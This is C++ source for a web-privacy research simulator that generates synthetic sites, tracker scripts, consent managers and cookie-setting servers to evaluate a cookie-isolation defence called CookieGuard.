    spec.ops.push_back(script::exfiltrate({"_ga", "_gid", "_fbp", "_gcl_au"},
                                          "{site}", Encoding::kRaw,
                                          "/gtm/collect"));
  }
  if (rng.chance(params.fp_overwrite_rate)) {
    spec.ops.push_back(
        script::overwrite({"_ga", "_uetsid"}, "GA1.1.{rand:9}.{ts}"));
  }
  if (rng.chance(params.fp_tracker_cleanup_rate)) {
    // Site-owner tracker cleanup (prettylittlething.com pattern, Fig. 6b).
    spec.ops.push_back(
        script::delete_cookies({"_ga", "_gid", "_fbp", "_uetvid"}));
  }
  spec.ops.push_back(script::create_dom("div"));
  spec.ops.push_back(script::create_dom("section"));
  return spec;
}

namespace {

// Swaps in per-deployment variants of global vendors.
std::string maybe_variant(const std::string& id, script::Rng& rng,
                          const CorpusParams& params) {
  if (id == "ga-legacy" && rng.chance(params.ga_dims_rate)) {
    return "ga-legacy+dims";
  }
  return id;
}

// FNV-1a, for deterministic per-spec async delays.
std::uint64_t hash_id(const std::string& id) {
  std::uint64_t h = 1469598103934665603ULL;
  for (const char c : id) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ULL;
  }
  return h;
}

}  // namespace

void defer_cross_actions(script::ScriptSpec& spec) {
  using script::OpKind;
  std::vector<script::ScriptOp> sync_ops;
  std::vector<script::ScriptOp> deferred;
  for (auto& op : spec.ops) {
    const bool cross_sensitive = op.kind == OpKind::kExfiltrate ||
                                 op.kind == OpKind::kOverwriteCookie ||
                                 op.kind == OpKind::kDeleteCookie;
    if (cross_sensitive) {
      deferred.push_back(std::move(op));
    } else {
      sync_ops.push_back(std::move(op));
    }
  }
  if (deferred.empty()) {
    spec.ops = std::move(sync_ops);
    return;
  }
  // Deletions (consent passes) run later than pixels' exfiltration so the
  // identifiers are observed before they are wiped — matching the paper's
  // event ordering, where both actions appear in the same visit.
  bool has_delete = false;
  for (const auto& op : deferred) {
    if (op.kind == OpKind::kDeleteCookie) has_delete = true;
  }
  const TimeMillis delay =
      (has_delete ? 1500 : 100) + static_cast<TimeMillis>(
                                      hash_id(spec.id) % (has_delete ? 400
                                                                     : 700));
  sync_ops.push_back(script::run_async(delay, std::move(deferred)));
  spec.ops = std::move(sync_ops);
}

SiteBlueprint generate_site(int rank, script::Rng& rng,
                            const Ecosystem& ecosystem,
                            browser::ScriptCatalog& catalog,
                            const CorpusParams& params, int generation) {
  SiteBlueprint bp;
  bp.rank = rank;
  bp.generation = generation;
  bp.host = "www.site" + std::to_string(rank) +
            (generation > 0 ? "g" + std::to_string(generation) : "") + "." +
            kTlds[rng.below(std::size(kTlds))];
  bp.site = net::etld_plus_one(bp.host);

  auto& ids = bp.doc.script_ids;
  const bool has_third_party = rng.chance(params.third_party_presence);

  // 1. First-party bundle (always present).
  {
    const bool cookieless =
        !has_third_party && rng.chance(params.fp_cookieless_rate);
    ScriptSpec fp =
        make_fp_bundle(rank, rng, params, cookieless, bp.fp_cookie_names);
    ids.push_back(fp.id);
    catalog.add(std::move(fp));
  }

  // 2. Inline snippet.
  if (rng.chance(params.inline_script_rate)) {
    ids.push_back("inline-snippet");
  }

  std::set<std::string> present;

  if (has_third_party) {
    // 3. Consent manager (accept or decline path).
    if (rng.chance(params.consent_manager_rate)) {
      double roll = rng.uniform();
      std::string cmp_id = ecosystem.consent_managers.back().first;
      for (const auto& [id, share] : ecosystem.consent_managers) {
        roll -= share;
        if (roll <= 0) {
          cmp_id = id;
          break;
        }
      }
      if (rng.chance(params.consent_decline_rate)) cmp_id += "+decline";
      ids.push_back(cmp_id);
    }

    // 4. SSO widgets.
    if (rng.chance(params.sso_rate)) {
      bp.has_sso = true;
      if (rng.chance(params.sso_two_domain_share)) {
        bp.sso_two_domain = true;
        if (rng.chance(0.55)) {
          // Same-entity pair (zoom.us's microsoft.com + live.com): entity
          // grouping repairs these.
          bp.sso_provider_a = "ms-sso-a";
          bp.sso_provider_b = "ms-sso-b";
        } else {
          // Cross-entity broker pair: only a per-site domain policy helps.
          bp.sso_provider_a = "sso-broker-a";
          bp.sso_provider_b = "sso-broker-b";
        }
        ids.push_back(bp.sso_provider_a);
        ids.push_back(bp.sso_provider_b);
      } else {
        const double roll = rng.uniform();
        bp.sso_provider_a = roll < 0.5    ? "google-sso"
                            : roll < 0.8  ? "fb-sso"
                            : roll < 0.9  ? "okta-widget"
                                          : "auth0-widget";
        ids.push_back(bp.sso_provider_a);
      }
      bp.sso_server_refresh = rng.chance(params.sso_server_refresh_share);
    }

    // 5. Same-entity CDN widget pair (pixel + messenger).
    if (rng.chance(params.entity_cdn_widget_rate)) {
      bp.has_entity_cdn_widget = true;
      if (present.insert("fbpixel").second) ids.push_back("fbpixel");
      ids.push_back("fb-messenger");
      bp.has_chat = true;
    }

    // 6. Directly included vendors.
    for (const auto& vendor : ecosystem.vendors) {
      if (present.count(vendor.id) != 0) continue;
      if (rng.chance(vendor.direct_rate)) {
        present.insert(vendor.id);
        ids.push_back(maybe_variant(vendor.id, rng, params));
      }
    }

    // 7. Google Tag Manager container with injected vendors + tail.
    std::vector<std::string> gtm_injected;
    const bool has_gtm = rng.chance(params.gtm_rate);
    if (has_gtm) {
      const int k = static_cast<int>(rng.between(
          static_cast<std::uint64_t>(params.gtm_inject_min),
          static_cast<std::uint64_t>(params.gtm_inject_max)));
      gtm_injected = sample_weighted(
          ecosystem.vendors, k, rng,
          [](const VendorInfo& v) { return v.gtm_weight; }, present);
      for (const auto& id : gtm_injected) present.insert(id);
    }

    // 8. Ad stack: GPT exchange + injected RTB bidders.
    if (rng.chance(params.ad_stack_rate)) {
      bp.serves_ads = true;
      bp.ads_depend_cross_entity = rng.chance(0.20);
      ScriptSpec adstack;
      adstack.id = "adstack#" + std::to_string(rank);
      adstack.url_template =
          "https://securepubads.g.doubleclick.net/tag/js/gpt.js";
      adstack.category = Category::kRtbExchange;
      const auto* gpt = catalog.find("gpt-core");
      if (gpt != nullptr) adstack.ops = gpt->ops;
      const int bidders = static_cast<int>(rng.between(
          static_cast<std::uint64_t>(params.rtb_bidders_min),
          static_cast<std::uint64_t>(params.rtb_bidders_max)));
      std::set<std::string> chosen;
      for (int i = 0; i < bidders; ++i) {
        std::string bidder = rng.pick(ecosystem.rtb_bidder_ids);
        if (bidder == "gpt-core" || !chosen.insert(bidder).second) continue;
        if (rng.chance(params.rtb_whole_jar_rate)) bidder += "+jar";
        adstack.ops.push_back(script::inject(bidder));
      }
      ids.push_back(adstack.id);
      catalog.add(std::move(adstack));
    }

    // 9. Long-tail vendors: mostly injected via GTM when present.
    const int tail_n = static_cast<int>(rng.between(
        static_cast<std::uint64_t>(params.tail_min),
        static_cast<std::uint64_t>(params.tail_max)));
    std::vector<std::string> tail_direct;
    std::vector<std::string> tail_injected;
    for (int i = 0; i < tail_n; ++i) {
      const std::string& id = rng.pick(ecosystem.tail_ids);
      if (present.count(id) != 0) continue;
      present.insert(id);
      if (rng.chance(0.88)) {
        tail_injected.push_back(id);
      } else {
        tail_direct.push_back(id);
      }
    }
    for (const auto& id : tail_direct) ids.push_back(id);

    if (!has_gtm && !tail_injected.empty()) {
      // Sites without a tag manager still load most widgets through a
      // third-party bundler/plugin loader — the transitive inclusion chains
      // of §5.6 ("indirect inclusions outnumber direct by 2.5x").
      ScriptSpec loader;
      loader.id = "loader#" + std::to_string(rank);
      loader.url_template = "https://cdn.sitebundle.io/l/" +
                            std::to_string(rank) + "/loader.js";
      loader.category = Category::kCdnUtility;
      for (const auto& id : tail_injected) {
        loader.ops.push_back(script::inject(id));
      }
      ids.push_back(loader.id);
      catalog.add(std::move(loader));
      tail_injected.clear();
    }

    if (has_gtm) {
      ScriptSpec gtm;
      gtm.id = "gtm#" + std::to_string(rank);
      gtm.url_template =
          "https://www.googletagmanager.com/gtm.js?id=GTM-" +
          std::to_string(rank);
      gtm.category = Category::kTagManager;
      gtm.ops.push_back(script::read_cookies());
      for (const auto& id : gtm_injected) {
        gtm.ops.push_back(script::inject(maybe_variant(id, rng, params)));
      }
      for (const auto& id : tail_injected) {
        gtm.ops.push_back(script::inject(id));
      }
      ids.push_back(gtm.id);
      catalog.add(std::move(gtm));
    }

    // 10. CNAME-cloaked tracker (§8 evasion): served from a first-party
    // subdomain that CNAMEs to the tracker's real infrastructure.
    if (rng.chance(params.cname_cloaking_rate)) {
      bp.has_cloaked_tracker = true;
      bp.cloaked_host = "metrics." + bp.site;
      ScriptSpec cloak;
      cloak.id = "cloak#" + std::to_string(rank);
      cloak.url_template = "https://" + bp.cloaked_host + "/ct.js";
      cloak.category = Category::kAnalytics;
      cloak.ops = {
          script::set_cookie("_sA", "{hex:26}"),
          script::exfiltrate({"_ga", "_gid", "_fbp", "_sA", "cart_id",
                              "visitor_id", "session_ref", "user_id"},
                             bp.cloaked_host, Encoding::kRaw, "/event")};
      ids.push_back(cloak.id);
      catalog.add(std::move(cloak));
    }

    // 11. Inline vendor snippet (§8 evasion / over-blocking case).
    if (rng.chance(params.inline_tracker_rate)) {
      bp.has_inline_tracker = true;
      ids.push_back("inline-gtag");
    }

    // 12. cookieStore users.
    if (rng.chance(params.shopify_rate)) {
      ids.push_back("shopify-perf");
      bp.uses_cookie_store = true;
    }
    if (rng.chance(params.admiral_rate)) {
      // Admiral is served from a different hosting domain per publisher —
      // every instance is a distinct (cookie, domain) pair (§5.2).
      ScriptSpec admiral;
      admiral.id = "admiral#" + std::to_string(rank);
      admiral.url_template = "https://cdn.deliver" + std::to_string(rank) +
                             ".media/admiral.js";
      admiral.category = Category::kAdvertising;
      admiral.ops = {script::store_set_cookie("_awl", "1.{ts}.{hex:16}"),
                     script::beacon("collect.getadmiral.com", "/metrics")};
      ids.push_back(admiral.id);
      catalog.add(std::move(admiral));
      bp.uses_cookie_store = true;
    }
  }

  // HTTP Set-Cookie headers from the site's own server.
  bp.http_cookie_templates.push_back("sid={hex:24}; Path=/; HttpOnly");
  if (rng.chance(0.5)) {
    bp.http_cookie_templates.push_back("region=us-east-1; Path=/");
  }
  if (rng.chance(0.3)) {
    bp.http_cookie_templates.push_back(
        "fp_srv_uid={hex:16}; Path=/; Max-Age=31536000");
  }

  // Links for the crawler's random clicks.
  const int n_links = static_cast<int>(rng.between(3, 8));
  for (int i = 0; i < n_links; ++i) {
    bp.doc.link_paths.push_back("/page/" + std::to_string(i));
  }
  bp.doc.static_dom_nodes = static_cast<int>(rng.between(80, 600));

  return bp;
}

}  // namespace cg::corpus
