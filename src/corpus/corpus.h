// The synthetic web: 20,000 generated sites + the vendor ecosystem,
// attachable to any Browser instance.
#pragma once

#include <vector>

#include "browser/browser.h"
#include "browser/catalog.h"
#include "corpus/corpus_view.h"
#include "corpus/ecosystem.h"
#include "corpus/params.h"
#include "corpus/site_blueprint.h"
#include "entities/entity_map.h"

namespace cg::corpus {

class Corpus : public CorpusView {
 public:
  explicit Corpus(CorpusParams params = {});

  Corpus(const Corpus&) = delete;
  Corpus& operator=(const Corpus&) = delete;

  int size() const override { return static_cast<int>(sites_.size()); }
  const CorpusParams& params() const override { return params_; }
  const browser::ScriptCatalog& catalog() const { return catalog_; }
  const Ecosystem& ecosystem() const { return ecosystem_; }
  const entities::EntityMap& entities() const override {
    return entities::EntityMap::builtin();
  }

  /// Blueprint for a 0-based site index (rank = index + 1).
  const SiteBlueprint& site(int index) const { return sites_.at(index); }

  /// CorpusView access: non-owning aliases into the materialized corpus
  /// (the Corpus must outlive the returned SiteVisit).
  SiteVisit site_visit(int index) const override;

  /// Wires a browser up to visit `bp`'s site: catalog, document provider,
  /// and the site's HTTP server (cookie-setting document handler).
  void attach(browser::Browser& browser, const SiteBlueprint& bp) const;

 private:
  CorpusParams params_;
  browser::ScriptCatalog catalog_;
  Ecosystem ecosystem_;
  std::vector<SiteBlueprint> sites_;
};

}  // namespace cg::corpus
