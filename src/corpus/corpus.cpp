#include "corpus/corpus.h"

#include <memory>

#include "corpus/site_generator.h"
#include "script/interpreter.h"

namespace cg::corpus {
namespace {

std::string find_cookie_in_header(const std::string& header,
                                  const std::string& name) {
  const auto pos = header.find(name + "=");
  if (pos == std::string::npos) return {};
  const auto start = pos + name.size() + 1;
  const auto end = header.find(';', start);
  return header.substr(start, end == std::string::npos ? std::string::npos
                                                       : end - start);
}

}  // namespace

Corpus::Corpus(CorpusParams params) : params_(params) {
  ecosystem_ = build_ecosystem(params_, catalog_);
  script::Rng master(params_.seed);
  sites_.reserve(static_cast<std::size_t>(params_.site_count));
  for (int rank = 1; rank <= params_.site_count; ++rank) {
    script::Rng site_rng = master.fork(static_cast<std::uint64_t>(rank));
    sites_.push_back(
        generate_site(rank, site_rng, ecosystem_, catalog_, params_));
  }
  catalog_.transform(defer_cross_actions);
}

SiteVisit Corpus::site_visit(int index) const {
  // Aliasing shared_ptrs with no ownership: the materialized corpus owns
  // both objects for its whole lifetime, so the handles are plain pointers
  // in shared_ptr clothing (no per-visit allocation on this path).
  return SiteVisit{
      std::shared_ptr<const SiteBlueprint>(std::shared_ptr<const void>(),
                                           &sites_.at(index)),
      std::shared_ptr<const browser::ScriptCatalog>(
          std::shared_ptr<const void>(), &catalog_)};
}

void Corpus::attach(browser::Browser& browser, const SiteBlueprint& bp) const {
  attach_site(browser, bp, &catalog_);
}

void attach_site(browser::Browser& browser, const SiteBlueprint& bp,
                 const browser::ScriptCatalog* catalog) {
  browser.set_catalog(catalog);

  browser::DocumentSpec doc = bp.doc;
  browser.set_document_provider(
      [doc](const net::Url&) { return doc; });

  // Expand this visit's Set-Cookie header values once (they stay stable
  // across the visit's navigations, like a real server session).
  std::vector<std::string> headers;
  headers.reserve(bp.http_cookie_templates.size());
  for (const auto& tpl : bp.http_cookie_templates) {
    headers.push_back(script::expand_template(tpl, browser.rng(),
                                              browser.clock().now()));
  }

  if (bp.has_cloaked_tracker) {
    browser.dns().add_cname(bp.cloaked_host, "collect.cloaktrack.net");
  }

  const bool refresh_sso = bp.sso_server_refresh;
  auto document_requests = std::make_shared<int>(0);
  browser.network().register_host(
      bp.host,
      [headers, refresh_sso, document_requests](const net::HttpRequest& req) {
        net::HttpResponse response;
        if (req.destination == net::RequestDestination::kDocument) {
          ++*document_requests;
          for (const auto& header : headers) {
            response.headers.add("Set-Cookie", header);
          }
          if (refresh_sso && *document_requests > 1) {
            // cnn.com-style reload behaviour: the server re-emits the SSO
            // session cookie it sees in the request. The value is unchanged,
            // but the Set-Cookie re-attributes the cookie's creator to the
            // first party in CookieGuard's metadata store — after which the
            // identity provider's script can no longer see it (§7.2 minor
            // SSO breakage).
            if (const auto cookie_header = req.headers.get("Cookie")) {
              const std::string session =
                  find_cookie_in_header(*cookie_header, "SSO_session");
              if (!session.empty()) {
                response.headers.add("Set-Cookie",
                                     "SSO_session=" + session + "; Path=/");
              }
            }
          }
        }
        return response;
      });
}

}  // namespace cg::corpus
