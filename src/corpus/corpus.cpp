#include "corpus/corpus.h"

#include <memory>

#include "corpus/site_generator.h"
#include "script/interpreter.h"

namespace cg::corpus {
namespace {

// FNV-1a, for deterministic per-spec async delays.
std::uint64_t hash_id(const std::string& id) {
  std::uint64_t h = 1469598103934665603ULL;
  for (const char c : id) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ULL;
  }
  return h;
}

/// Real trackers fire their pixels and cleanup passes after load, not at
/// parse time. Defer every top-level cross-domain-sensitive op (exfiltrate,
/// overwrite, delete) into one setTimeout per script, so document order
/// stops mattering: a consent manager parsed before the Facebook pixel
/// still deletes _fbp. Ops already inside an explicit kAsync are left alone.
void defer_cross_actions(script::ScriptSpec& spec) {
  using script::OpKind;
  std::vector<script::ScriptOp> sync_ops;
  std::vector<script::ScriptOp> deferred;
  for (auto& op : spec.ops) {
    const bool cross_sensitive = op.kind == OpKind::kExfiltrate ||
                                 op.kind == OpKind::kOverwriteCookie ||
                                 op.kind == OpKind::kDeleteCookie;
    if (cross_sensitive) {
      deferred.push_back(std::move(op));
    } else {
      sync_ops.push_back(std::move(op));
    }
  }
  if (deferred.empty()) {
    spec.ops = std::move(sync_ops);
    return;
  }
  // Deletions (consent passes) run later than pixels' exfiltration so the
  // identifiers are observed before they are wiped — matching the paper's
  // event ordering, where both actions appear in the same visit.
  bool has_delete = false;
  for (const auto& op : deferred) {
    if (op.kind == OpKind::kDeleteCookie) has_delete = true;
  }
  const TimeMillis delay =
      (has_delete ? 1500 : 100) + static_cast<TimeMillis>(
                                      hash_id(spec.id) % (has_delete ? 400
                                                                     : 700));
  sync_ops.push_back(script::run_async(delay, std::move(deferred)));
  spec.ops = std::move(sync_ops);
}

std::string find_cookie_in_header(const std::string& header,
                                  const std::string& name) {
  const auto pos = header.find(name + "=");
  if (pos == std::string::npos) return {};
  const auto start = pos + name.size() + 1;
  const auto end = header.find(';', start);
  return header.substr(start, end == std::string::npos ? std::string::npos
                                                       : end - start);
}

}  // namespace

Corpus::Corpus(CorpusParams params) : params_(params) {
  ecosystem_ = build_ecosystem(params_, catalog_);
  script::Rng master(params_.seed);
  sites_.reserve(static_cast<std::size_t>(params_.site_count));
  for (int rank = 1; rank <= params_.site_count; ++rank) {
    script::Rng site_rng = master.fork(static_cast<std::uint64_t>(rank));
    sites_.push_back(
        generate_site(rank, site_rng, ecosystem_, catalog_, params_));
  }
  catalog_.transform(defer_cross_actions);
}

void Corpus::attach(browser::Browser& browser, const SiteBlueprint& bp) const {
  browser.set_catalog(&catalog_);

  browser::DocumentSpec doc = bp.doc;
  browser.set_document_provider(
      [doc](const net::Url&) { return doc; });

  // Expand this visit's Set-Cookie header values once (they stay stable
  // across the visit's navigations, like a real server session).
  std::vector<std::string> headers;
  headers.reserve(bp.http_cookie_templates.size());
  for (const auto& tpl : bp.http_cookie_templates) {
    headers.push_back(script::expand_template(tpl, browser.rng(),
                                              browser.clock().now()));
  }

  if (bp.has_cloaked_tracker) {
    browser.dns().add_cname(bp.cloaked_host, "collect.cloaktrack.net");
  }

  const bool refresh_sso = bp.sso_server_refresh;
  auto document_requests = std::make_shared<int>(0);
  browser.network().register_host(
      bp.host,
      [headers, refresh_sso, document_requests](const net::HttpRequest& req) {
        net::HttpResponse response;
        if (req.destination == net::RequestDestination::kDocument) {
          ++*document_requests;
          for (const auto& header : headers) {
            response.headers.add("Set-Cookie", header);
          }
          if (refresh_sso && *document_requests > 1) {
            // cnn.com-style reload behaviour: the server re-emits the SSO
            // session cookie it sees in the request. The value is unchanged,
            // but the Set-Cookie re-attributes the cookie's creator to the
            // first party in CookieGuard's metadata store — after which the
            // identity provider's script can no longer see it (§7.2 minor
            // SSO breakage).
            if (const auto cookie_header = req.headers.get("Cookie")) {
              const std::string session =
                  find_cookie_in_header(*cookie_header, "SSO_session");
              if (!session.empty()) {
                response.headers.add("Set-Cookie",
                                     "SSO_session=" + session + "; Path=/");
              }
            }
          }
        }
        return response;
      });
}

}  // namespace cg::corpus
