// Generates one site's blueprint (and its per-site catalog variants:
// first-party bundle, GTM container, ad stack, Admiral SDK).
#pragma once

#include "browser/catalog.h"
#include "corpus/ecosystem.h"
#include "corpus/params.h"
#include "corpus/site_blueprint.h"
#include "script/rng.h"

namespace cg::corpus {

SiteBlueprint generate_site(int rank, script::Rng& rng,
                            const Ecosystem& ecosystem,
                            browser::ScriptCatalog& catalog,
                            const CorpusParams& params);

}  // namespace cg::corpus
