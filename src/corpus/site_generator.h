// Generates one site's blueprint (and its per-site catalog variants:
// first-party bundle, GTM container, ad stack, Admiral SDK).
#pragma once

#include "browser/catalog.h"
#include "corpus/ecosystem.h"
#include "corpus/params.h"
#include "corpus/site_blueprint.h"
#include "script/rng.h"

namespace cg::corpus {

/// Generates the blueprint for `rank`, registering the site's own specs
/// (fp bundle, GTM container, ad stack, ...) into `catalog`. `generation`
/// marks churn replacements (src/evolve/): generation g > 0 occupies the
/// same rank slot under a distinct host ("www.site{rank}g{g}.{tld}"), the
/// way a ranking position is re-filled by a different site between waves.
SiteBlueprint generate_site(int rank, script::Rng& rng,
                            const Ecosystem& ecosystem,
                            browser::ScriptCatalog& catalog,
                            const CorpusParams& params, int generation = 0);

/// Builds the site's first-party application bundle. Exposed for wave
/// evolution: fp-rotation re-rolls exactly this spec (a site shipping a new
/// bundle release with a different cookie footprint).
script::ScriptSpec make_fp_bundle(int rank, script::Rng& rng,
                                  const CorpusParams& params, bool cookieless,
                                  std::vector<std::string>& fp_cookie_names);

/// Real trackers fire their pixels and cleanup passes after load, not at
/// parse time: defers every top-level cross-domain-sensitive op
/// (exfiltrate, overwrite, delete) into one setTimeout per script, so
/// document order stops mattering. Applied once per spec — the materialized
/// Corpus transforms its whole catalog after generation; streaming
/// providers transform the shared catalog once and each per-site overlay as
/// it is generated.
void defer_cross_actions(script::ScriptSpec& spec);

}  // namespace cg::corpus
