// Provider-agnostic view of a site population.
//
// The crawler only ever needs four things: how many sites there are, the
// corpus parameters, the entity map, and — per visit — one blueprint plus
// the catalog to resolve its script ids against. CorpusView narrows the
// crawl engine to exactly that, so one code path crawls a fully
// materialized Corpus (20k sites in memory), a StreamingCorpus (blueprints
// generated on demand, memory O(shards) not O(sites) — the 1M-site
// configuration), or an evolve::WaveCorpus (wave N+1 derived from wave N).
//
// Determinism contract: site_visit(i) must be a pure function of the
// provider's construction parameters and i — same bytes at any call order
// and any thread count. Providers back this with script::Rng::fork_at.
#pragma once

#include <memory>

#include "browser/browser.h"
#include "browser/catalog.h"
#include "corpus/params.h"
#include "corpus/site_blueprint.h"
#include "entities/entity_map.h"

namespace cg::corpus {

/// One site, fetched from a provider. `catalog` is what the visiting
/// browser resolves script ids against; for streaming providers it is a
/// per-site overlay chained onto the shared vendor catalog, and the
/// shared_ptr keeps it alive for exactly the visit that uses it.
struct SiteVisit {
  std::shared_ptr<const SiteBlueprint> blueprint;
  std::shared_ptr<const browser::ScriptCatalog> catalog;
};

class CorpusView {
 public:
  virtual ~CorpusView() = default;

  virtual int size() const = 0;
  virtual const CorpusParams& params() const = 0;
  virtual const entities::EntityMap& entities() const = 0;

  /// The blueprint + catalog for 0-based site `index` (rank = index + 1).
  /// Thread-safe; pure in (provider construction params, index).
  virtual SiteVisit site_visit(int index) const = 0;
};

/// Wires a browser up to visit `bp`'s site: catalog, document provider, and
/// the site's HTTP server (cookie-setting document handler). The factored
/// body of Corpus::attach, shared by every CorpusView provider.
void attach_site(browser::Browser& browser, const SiteBlueprint& bp,
                 const browser::ScriptCatalog* catalog);

}  // namespace cg::corpus
