#include "corpus/streaming_corpus.h"

#include <utility>

#include "corpus/site_generator.h"
#include "script/rng.h"

namespace cg::corpus {

StreamingCorpus::StreamingCorpus(CorpusParams params) : params_(params) {
  ecosystem_ = build_ecosystem(params_, raw_);
  cooked_ = raw_;
  cooked_.transform(defer_cross_actions);
}

SiteVisit StreamingCorpus::site_visit(int index) const {
  const int rank = index + 1;
  // Corpus forks rank r as the master stream's r-th sequential fork
  // (k = r-1, key = r); fork_at reproduces it without the master.
  script::Rng site_rng = script::Rng::fork_at(
      params_.seed, static_cast<std::uint64_t>(rank - 1),
      static_cast<std::uint64_t>(rank));

  auto overlay = std::make_shared<browser::ScriptCatalog>();
  overlay->set_parent(&raw_);  // gpt-core etc. resolve to untransformed ops
  auto bp = std::make_shared<SiteBlueprint>(
      generate_site(rank, site_rng, ecosystem_, *overlay, params_));
  overlay->transform(defer_cross_actions);  // own specs only
  overlay->set_parent(&cooked_);  // browsers see transformed vendor specs
  return SiteVisit{std::move(bp), std::move(overlay)};
}

}  // namespace cg::corpus
