#include "corpus/ecosystem.h"

#include "net/url.h"
#include "script/rng.h"
#include "script/script_spec.h"

namespace cg::corpus {
namespace {

using script::Category;
using script::Encoding;
using script::ScriptOp;
using script::ScriptSpec;

ScriptSpec make_spec(std::string id, std::string url, Category category,
                     std::vector<ScriptOp> ops) {
  ScriptSpec spec;
  spec.id = std::move(id);
  spec.url_template = std::move(url);
  spec.category = category;
  spec.ops = std::move(ops);
  return spec;
}

void add_vendor(Ecosystem& eco, browser::ScriptCatalog& catalog,
                std::string id, std::string url, Category category,
                double direct_rate, double gtm_weight,
                std::vector<ScriptOp> ops) {
  catalog.add(make_spec(id, std::move(url), category, std::move(ops)));
  eco.vendors.push_back({std::move(id), category, direct_rate, gtm_weight});
}

void add_rtb_bidder(Ecosystem& eco, browser::ScriptCatalog& catalog,
                    std::string id, std::string url,
                    std::vector<ScriptOp> ops) {
  // Each bidder has a plain (targeted) spec and a "+jar" variant that ships
  // the entire visible jar in its bid request (§5.4, RTB discussion).
  ScriptSpec spec = make_spec(id, url, Category::kRtbExchange, std::move(ops));
  ScriptSpec jar_variant = spec;
  jar_variant.id = id + "+jar";
  const std::string host =
      net::Url::must_parse(spec.url_template).host();
  jar_variant.ops.push_back(
      script::exfiltrate_jar(host, Encoding::kRaw, "/bid"));
  catalog.add(std::move(spec));
  catalog.add(std::move(jar_variant));
  eco.rtb_bidder_ids.push_back(std::move(id));
}

void add_consent_manager(Ecosystem& eco, browser::ScriptCatalog& catalog,
                         std::string id, std::string url, double share,
                         std::vector<ScriptOp> accept_ops,
                         std::vector<ScriptOp> decline_extra_ops) {
  ScriptSpec accept = make_spec(id, url, Category::kConsent, accept_ops);
  ScriptSpec decline =
      make_spec(id + "+decline", std::move(url), Category::kConsent,
                std::move(accept_ops));
  for (auto& op : decline_extra_ops) decline.ops.push_back(std::move(op));
  catalog.add(std::move(accept));
  catalog.add(std::move(decline));
  eco.consent_managers.emplace_back(std::move(id), share);
}

// Common cross-domain victim lists.
const std::vector<std::string> kGoogleIds = {"_ga", "_gid", "_gcl_au"};

}  // namespace

std::string resolve_script_url(const browser::ScriptCatalog& catalog,
                               const std::string& id,
                               const std::string& site_host) {
  const auto* spec = catalog.find(id);
  if (spec == nullptr || spec->is_inline) return {};
  std::string url = spec->url_template;
  const auto pos = url.find("{site}");
  if (pos != std::string::npos) url.replace(pos, 6, site_host);
  return url;
}

Ecosystem build_ecosystem(const CorpusParams& params,
                          browser::ScriptCatalog& catalog) {
  using namespace script;  // builder helpers: set_cookie, exfiltrate, ...
  Ecosystem eco;

  // ---- Google stack ----------------------------------------------------
  // gtag.js ghost-writes _ga/_gcl_au (owner: googletagmanager.com, Table 2)
  // and rewrites consent state (Google as top OptanonConsent overwriter,
  // Table 5).
  const std::vector<ScriptOp> gtag_ops = {
      set_cookie("_ga", "GA1.1.{rand:9}.{ts}"),
      set_cookie("_gcl_au", "1.1.{rand:10}.{ts}"),
      overwrite({"OptanonConsent"}, "{hex:32}&groups=C0001:1,C0002:0"),
      exfiltrate({"_ga", "_gcl_au"}, "www.googletagmanager.com",
                 Encoding::kRaw, "/a")};
  add_vendor(eco, catalog, "gtag",
             "https://www.googletagmanager.com/gtag/js?id=G-1XY",
             Category::kAnalytics, 0.28, 0.32, gtag_ops);
  {
    // Verbatim inline copy of the gtag snippet (§8 "embedded as inline
    // scripts"): identical behaviour, no script URL. Its behaviour signature
    // equals gtag's, which is what signature matching keys on.
    ScriptSpec inline_gtag;
    inline_gtag.id = "inline-gtag";
    inline_gtag.category = Category::kAnalytics;
    inline_gtag.is_inline = true;
    inline_gtag.ops = gtag_ops;
    catalog.add(std::move(inline_gtag));
  }

  // analytics.js: reads the jar and ships identifiers — google-analytics.com
  // is the paper's #1 cross-domain exfiltrator (Figure 2) because it ships
  // _ga/_gcl_au ghost-written by googletagmanager.com.
  add_vendor(eco, catalog, "ga-legacy",
             "https://www.google-analytics.com/analytics.js",
             Category::kAnalytics, 0.06, 0.14,
             {set_cookie("_ga", "GA1.2.{rand:9}.{ts}"),
              set_cookie("_gid", "GA1.2.{rand:9}.{ts}",
                         "; Path=/; Max-Age=86400"),
              set_cookie("__utma", "{rand:9}.{rand:9}.{ts}.{ts}.{ts}.1"),
              set_cookie("__utmb", "{rand:9}.8.10.{ts}",
                         "; Path=/; Max-Age=1800"),
              set_cookie("__utmz", "{rand:9}.{ts}.1.1.utmcsr{rand:8}"),
              exfiltrate({"_ga", "_gid", "_gcl_au", "__utma", "__utmb",
                          "__utmz", "OptanonConsent"},
                         "www.google-analytics.com", Encoding::kRaw,
                         "/collect")});

  {
    // Site-configured "custom dimensions" variant: some deployments populate
    // analytics dimensions from arbitrary cookies, shipping the whole jar —
    // this is what makes google-analytics.com the paper's top exfiltrator by
    // unique cookies (Figure 2, 3.3% of all cookies).
    ScriptSpec dims = *catalog.find("ga-legacy");
    dims.id = "ga-legacy+dims";
    dims.ops.push_back(exfiltrate_jar("www.google-analytics.com",
                                      Encoding::kRaw, "/collect"));
    catalog.add(std::move(dims));
  }

  // ---- major pixels ----------------------------------------------------
  add_vendor(eco, catalog, "fbpixel",
             "https://connect.facebook.net/en_US/fbevents.js",
             Category::kSocial, 0.10, 0.30,
             {set_cookie("_fbp", "fb.1.{ts_ms}.{rand:18}"),
              exfiltrate({"_fbp"}, "www.facebook.com", Encoding::kRaw,
                         "/tr")});

  add_vendor(eco, catalog, "bing-uet", "https://bat.bing.com/bat.js",
             Category::kAdvertising, 0.04, 0.12,
             {set_cookie("_uetsid", "{hex:32}", "; Path=/; Max-Age=86400"),
              set_cookie("_uetvid", "{hex:32}"),
              exfiltrate({"_ga", "_gid", "_gcl_au", "_uetsid", "_uetvid",
                          "_awl", "keep_alive"},
                         "bat.bing.com", Encoding::kRaw, "/action")});

  add_vendor(eco, catalog, "clarity", "https://www.clarity.ms/tag/abcdef",
             Category::kAnalytics, 0.03, 0.09,
             {set_cookie("_clck", "{hex:12}.1.{ts}.1"),
              set_cookie("_clsk", "{hex:12}.{ts}.1",
                         "; Path=/; Max-Age=86400"),
              exfiltrate({"_ga", "_uetvid", "_clck", "_clsk"},
                         "www.clarity.ms", Encoding::kRaw, "/collect")});

  add_vendor(eco, catalog, "yandex-metrica",
             "https://mc.yandex.ru/metrika/tag.js", Category::kAnalytics,
             0.03, 0.05,
